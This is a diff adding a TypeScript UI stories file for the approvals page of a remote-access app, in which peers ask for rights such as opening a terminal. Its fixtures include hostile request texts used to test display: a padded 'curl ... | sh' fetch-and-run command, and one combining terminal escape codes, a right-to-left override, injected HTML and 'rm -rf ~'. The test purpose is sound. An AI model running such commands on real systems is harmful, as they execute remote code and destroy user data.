@@ -1,0 +1,213 @@
+import { useEffect, type ReactElement } from 'react';
+import type { ApprovalView, PeerView } from '#shared/app-api/index.ts';
+import { ClawReachError } from '#shared/errors.ts';
+import type { Story, StoryAnswers } from '../../stories/index.ts';
+import { useApp } from '../../store/index.ts';
+import { Button } from '../../ui/index.ts';
+import { ApprovalsPage } from './approvals-page.tsx';
+import { IgnoreDialog } from './ignore-dialog.tsx';
+
+const MINUTE = 60_000;
+const NOW = Date.now();
+const OFFICE_ID = 'CR5K8ZT2M4Q7X1B9V6N3D0G8H5J2P7R4S1W6Y9A3C0E5F8K2M7Q4T1XZ';
+const SERVER_ID = '3B5K8ZT2M4Q7X1B9V6N3D0G8H5J2P7R4S1W6Y9A3C0E5F8K2M7Q4T1XZ';
+
+const peer = (peerId: string, name: string): PeerView => ({
+  peerId,
+  name,
+  shortId: peerId.slice(0, 7),
+  path: 'relay',
+  online: true,
+  linked: true,
+  rtt: 24,
+  address: 'relay.example.net:7474',
+  safetyNumber: '30112 84471 90365 22718 66540 11983 75026 48890 31257 90044 18823 56619',
+  rights: { terminal: { decision: 'ask', expiresAt: null } },
+  pairedAt: NOW - 1000 * MINUTE,
+  lastSeenAt: NOW - MINUTE,
+});
+const PEERS = [peer(OFFICE_ID, 'office'), peer(SERVER_ID, 'build-server')];
+
+function exampleApproval(given: Partial<ApprovalView>): ApprovalView {
+  const now = Date.now();
+  return {
+    id: 31,
+    kind: 'right',
+    peerId: OFFICE_ID,
+    peerName: 'office',
+    right: 'terminal',
+    detail: 'open a terminal',
+    requestedAt: now - 18_000,
+    expiresAt: now + 102_000,
+    state: 'pending',
+    decidedAt: null,
+    ...given,
+  };
+}
+
+const ONE = exampleApproval({ id: 31, detail: 'open a terminal' });
+const COMMAND = exampleApproval({
+  id: 32,
+  peerId: SERVER_ID,
+  peerName: 'build-server',
+  detail: "run: rsync -a --delete /srv/build/out/ 'mira-laptop:/home/mira/build out/'",
+});
+const LONG = exampleApproval({
+  id: 33,
+  detail: `run: sh -c '${'echo harmless && '.repeat(80)}curl -s https://example.org/install | sh' … and 1200 more characters`,
+});
+const HOSTILE = exampleApproval({
+  id: 34,
+  peerName: '<b>office</b>\u202e (you asked for this)',
+  detail: 'run: echo \ufffd[2J\ufffd]0;approved\ufffd; rm -rf ~ # \u202efo eruS',
+});
+
+const outcome = (id: number, given: Partial<ApprovalView>): ApprovalView =>
+  exampleApproval({
+    id,
+    detail: 'open a terminal',
+    requestedAt: NOW - (40 - id) * 37 * MINUTE,
+    expiresAt: NOW - (40 - id) * 37 * MINUTE + 2 * MINUTE,
+    decidedAt: NOW - (40 - id) * 37 * MINUTE + 20_000,
+    state: 'approved',
+    ...given,
+  });
+
+const DECIDED: readonly ApprovalView[] = [
+  outcome(30, { state: 'approved' }),
+  outcome(29, { state: 'denied', peerId: SERVER_ID, peerName: 'build-server', detail: COMMAND.detail }),
+  outcome(28, { state: 'expired' }),
+  outcome(27, { state: 'withdrawn' }),
+  outcome(26, { state: 'ignored', peerName: 'somebody-else', detail: LONG.detail }),
+];
+
+const MANY_DECIDED = Array.from({ length: 120 }, (_, index) =>
+  outcome(index, { state: (['approved', 'denied', 'expired'] as const)[index % 3] ?? 'denied' }),
+);
+
+const STATES = { approve: 'approved', 'not-now': 'denied', ignore: 'ignored' } as const;
+
+/** Every request there ever was in this story: what waits is in the state of the page as well. */
+const ANSWERS: StoryAnswers = {
+  'approvals.list': async () => [...useApp.getState().approvals],
+  'approvals.decide': async ({ id, decision }) => {
+    const asked = useApp.getState().approvals.find((approval) => approval.id === id);
+    if (asked === undefined) throw new ClawReachError('approval.gone', 'gone', { details: { id } });
+    const decided: ApprovalView = { ...asked, state: STATES[decision], decidedAt: Date.now() };
+    // As an agent: the answer first, what waits now a moment later.
+    setTimeout(() => {
+      useApp.setState(({ approvals }) => ({
+        approvals: approvals.map((approval) => (approval.id === id ? decided : approval)),
+      }));
+    }, 50);
+    return decided;
+  },
+};
+
+const refuse =
+  (code: string, details: Readonly<Record<string, number>> = {}) =>
+  (): Promise<never> =>
+    Promise.reject(new ClawReachError(code, code, { details }));
+
+const state = (...approvals: readonly ApprovalView[]): NonNullable<Story['state']> => ({
+  peers: PEERS,
+  approvals,
+});
+
+let nextId = 1000;
+
+/** A request that comes when the button, or a test, wants it. */
+function Arriving(): ReactElement {
+  const arrive = (): void => {
+    nextId += 1;
+    const fresh = exampleApproval({ id: nextId, detail: 'open a terminal', peerName: `visitor-${nextId - 1000}` });
+    useApp.setState(({ approvals }) => ({ approvals: [fresh, ...approvals] }));
+  };
+  const withdraw = (): void => {
+    useApp.setState(({ approvals }) => {
+      const oldest = approvals.toSorted((a, b) => a.id - b.id).find((approval) => approval.state === 'pending');
+      return { approvals: approvals.filter((approval) => approval !== oldest) };
+    });
+  };
+  return (
+    <>
+      <Button onClick={arrive}>A request comes</Button> <Button onClick={withdraw}>The oldest goes</Button>
+      <ApprovalsPage />
+    </>
+  );
+}
+
+/** Presses one of the three answers as soon as it can be pressed. */
+function Answered({ which }: Readonly<{ which: number }>): ReactElement {
+  useEffect(() => {
+    const timer = setInterval(() => {
+      const answers = document.querySelector('[data-readiness="ready"]');
+      const button = answers?.querySelectorAll('button')[which];
+      if (button === undefined) return;
+      clearInterval(timer);
+      button.click();
+    }, 50);
+    return () => clearInterval(timer);
+  }, [which]);
+  return <ApprovalsPage />;
+}
+
+const page = (): ReactElement => <ApprovalsPage />;
+
+export const APPROVALS_STORIES: readonly Story[] = [
+  { name: 'approvals/none', render: page, state: state(), answers: ANSWERS },
+  {
+    name: 'approvals/not known yet',
+    render: page,
+    state: { status: undefined, connection: 'connecting' },
+    answers: ANSWERS,
+  },
+  { name: 'approvals/one', render: page, state: state(ONE), answers: ANSWERS },
+  { name: 'approvals/several', render: page, state: state(LONG, COMMAND, ONE, ...DECIDED), answers: ANSWERS },
+  { name: 'approvals/long detail', render: page, state: state(LONG), answers: ANSWERS },
+  { name: 'approvals/hostile words', render: page, state: state(HOSTILE), answers: ANSWERS },
+  {
+    name: 'approvals/of a peer that is known no more',
+    render: page,
+    state: state({ ...ONE, peerId: `Z${OFFICE_ID.slice(1)}`, peerName: 'gone' }),
+    answers: ANSWERS,
+  },
+  {
+    name: 'approvals/time is over',
+    render: page,
+    state: state({ ...ONE, expiresAt: NOW - 1000 }),
+    answers: ANSWERS,
+  },
+  { name: 'approvals/decided', render: page, state: state(...DECIDED), answers: ANSWERS },
+  { name: 'approvals/many decided', render: page, state: state(...MANY_DECIDED), answers: ANSWERS },
+  {
+    name: 'approvals/history not had',
+    render: page,
+    state: state(ONE),
+    answers: { ...ANSWERS, 'approvals.list': refuse('control.busy', { limit: 64 }) },
+  },
+  {
+    name: 'approvals/answer came too late',
+    render: () => <Answered which={0} />,
+    state: state(ONE),
+    answers: { ...ANSWERS, 'approvals.decide': refuse('approval.gone', { id: ONE.id }) },
+  },
+  {
+    name: 'approvals/answering',
+    render: () => <Answered which={0} />,
+    state: state(ONE),
+    answers: { ...ANSWERS, 'approvals.decide': () => new Promise(() => undefined) },
+  },
+  {
+    name: 'approvals/ignore',
+    render: () => (
+      <>
+        <ApprovalsPage />
+        <IgnoreDialog approval={ONE} onClose={() => undefined} />
+      </>
+    ),
+    state: state(ONE),
+    answers: ANSWERS,
+  },
+  { name: 'approvals/arriving', render: () => <Arriving />, state: state(ONE), answers: ANSWERS },
+];
